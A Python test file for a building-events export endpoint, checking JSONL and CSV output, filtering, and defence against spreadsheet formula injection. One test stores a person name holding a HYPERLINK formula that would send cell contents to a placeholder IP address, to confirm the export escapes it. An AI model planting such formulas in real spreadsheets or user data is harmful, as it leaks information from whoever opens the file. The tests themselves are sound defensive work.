"""Events as a file: whole, filtered, typed as in the history, and harmless in a spreadsheet."""

import csv
import io
import json

import httpx2
import pytest
from fixtures_api import ON_BOTH, Api, add_person, problem_of
from fixtures_store import access_event, camera_event, claimed_camera

from app.api.exports import BATCH, COLUMNS, harmless
from app.store import audit, events
from app.store.event_rows import to_row
from app.types import CameraState, Decision

EXPORT = "/v1/buildings/main/events/export"


@ON_BOTH
def test_an_export_holds_everything_once_however_long(api: Api, operator: httpx2.Client) -> None:
    camera, count = claimed_camera(api.services.store), 2 * BATCH + 7
    with api.services.store.session() as session:
        session.add_all(to_row(access_event(camera, number)) for number in range(1, count + 1))
    answer = operator.get(EXPORT, params={"format": "jsonl"})
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/jsonl"
    assert answer.headers["content-disposition"] == 'attachment; filename="events-main.jsonl"'
    found = [json.loads(line) for line in answer.text.splitlines()]
    assert [event["data"]["sequence"] for event in found] == list(range(count, 0, -1))
    assert found[:200] == operator.get("/v1/buildings/main/events", params={"page_size": 200}).json()["items"]
    with api.services.store.reading() as session:
        (entry,) = audit.listing(session, 10, None, "main", "events.exported").items
    assert entry.detail == {"format": "jsonl"}


@ON_BOTH
def test_a_table_is_read_by_a_spreadsheet_as_text(api: Api, operator: httpx2.Client) -> None:
    camera = claimed_camera(api.services.store)
    person = add_person(operator, '=HYPERLINK("http://192.0.2.1/?"&A1, "Anna, B.")')
    with api.services.store.session() as session:
        granted = access_event(camera, 1, decision=Decision.GRANTED, person=person, margin=-0.25)
        events.add(session, granted)
        events.add(session, camera_event(camera, 2, CameraState.OFFLINE))
    operator.put(f"/v1/buildings/main/events/{granted.id}/correction", json={"verdict": "not_a_person", "note": "+1"})
    answer = operator.get(EXPORT)
    assert answer.headers["content-type"].startswith("text/csv")
    state, access = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert (access["id"], access["decision"], access["person"]) == (granted.id, "granted", person)
    assert access["person_name"] == '\'=HYPERLINK("http://192.0.2.1/?"&A1, "Anna, B.")'
    assert access["margin"] == "-0.25"  # a number stays one
    assert (access["verdict"], access["note"], access["corrected_by"]) == ("not_a_person", "'+1", "operator of None")
    assert (state["state"], state["detail"], state["decision"]) == ("offline", "no route to host", "")
    only = operator.get(EXPORT, params={"kind": "camera"}).text
    assert [row["id"] for row in csv.DictReader(io.StringIO(only, newline=""))] == [state["id"]]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "  =1"])
def test_what_looks_like_a_formula_is_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Anna", "a=b", "2026-01-01", "cam_1.2.3"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert harmless(text) == text


def test_an_export_of_nothing_and_of_nowhere(lasting_operator: httpx2.Client) -> None:
    answer = lasting_operator.get(EXPORT, params={"since": "2100-01-01T00:00:00Z"})
    assert answer.text == ",".join(COLUMNS) + "\r\n"
    assert problem_of(lasting_operator.get("/v1/buildings/nowhere/events/export")) == (404, "not-found")
    assert problem_of(lasting_operator.get(EXPORT, params={"format": "xlsx"})) == (422, "invalid-request")
